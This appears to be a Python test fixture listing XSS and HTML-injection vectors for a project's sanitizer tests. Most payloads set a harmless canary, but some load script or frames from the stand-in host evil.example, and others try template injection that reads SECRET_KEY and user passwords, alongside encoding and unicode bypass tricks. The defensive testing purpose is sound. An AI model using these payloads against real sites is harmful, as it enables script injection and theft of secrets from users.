"""XSS and HTML-injection vectors, written for this project. Each that can run script sets `window.__xss`
(the browser test checks the canary) or calls alert/confirm/prompt (the browser test fails on any dialog)."""

XSS_VECTORS: list[str] = [
    # script elements
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "</script><script>window.__xss=1</script>",
    "<template><script>window.__xss=1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    # event handlers
    '<img src=x onerror="window.__xss=1">',
    "<img src=x onerror=window.__xss=1//",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<body onload=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    '<video><source onerror="window.__xss=1"></video>',
    "<audio src=x onerror=window.__xss=1>",
    "<marquee onstart=window.__xss=1>跑马灯</marquee>",
    "<x onpointerover=window.__xss=1>悬停</x>",
    '<a href="#" onclick="window.__xss=1">点我</a>',
    "<isindex type=image src=1 onerror=window.__xss=1>",
    # javascript:, vbscript: and data: URLs
    '<a href="javascript:window.__xss=1">链接</a>',
    '<a href="JaVaScRiPt:window.__xss=1">大小写</a>',
    '<a href="jav&#x09;ascript:window.__xss=1">制表符</a>',
    '<a href="java\nscript:window.__xss=1">换行</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">实体</a>',
    '<a href="  javascript:window.__xss=1">空格</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">数据</a>',
    '<a href="data:text/html,<script>window.__xss=1</script>">数据2</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<img src="javascript:window.__xss=1">',
    '<img srcset="x 1x, javascript:window.__xss=1 2x">',
    '<table background="javascript:window.__xss=1"><tr><td>表</td></tr></table>',
    '<form action="javascript:window.__xss=1"><button>提交</button></form>',
    '<button formaction="javascript:window.__xss=1">按钮</button>',
    # frames, objects, embeds
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<iframe srcdoc="<script>window.__xss=1</script>"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="javascript:window.__xss=1"></object>',
    '<object type="text/html" data="//evil.example"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    # SVG and MathML
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:window.__xss=1"><text x=20 y=20>XSS</text></a></svg>',
    '<svg><set attributeName="href" to="javascript:window.__xss=1"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    '<math href="javascript:window.__xss=1">点击</math>',
    # CSS
    '<div style="background:url(javascript:window.__xss=1)">背景</div>',
    '<div style="width:expression(window.__xss=1)">表达式</div>',
    "<style>@import 'javascript:window.__xss=1';</style>",
    '<style>*{background:url("javascript:window.__xss=1")}</style>',
    '<link rel=stylesheet href="javascript:window.__xss=1">',
    # document-level tags
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<base href="javascript:window.__xss=1//">',
    # attribute and element breakouts
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=window.__xss=1>",
    '" onmouseover="window.__xss=1" x="',
    "' onfocus='window.__xss=1' autofocus '",
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    '<!--<img src="--><img src=x onerror=window.__xss=1//">',
    "<![CDATA[<script>window.__xss=1</script>]]>",
    # encoded variants: must stay text
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "＜script＞window.__xss=1＜/script＞",
    "<img src=x onerror=\\u0077indow.__xss=1>",
    # template injection and unicode tricks
    "{{7*7}}{% debug %}${7*7}#{7*7}<%= 7*7 %>",
    "{{ request.user.password }}{% load static %}{{ settings.SECRET_KEY }}",
    "\u202eXSS\u202d<img src=x onerror=window.__xss=1>",
    '<a href="https://example.com/\u202egpj.exe">文件</a>',
    "\u200b<scr\u200bipt>window.__xss=1</scr\u200bipt>",
]

# Only the plain text a field keeps, and the markers that must never survive live.
CANARY = "__xss"
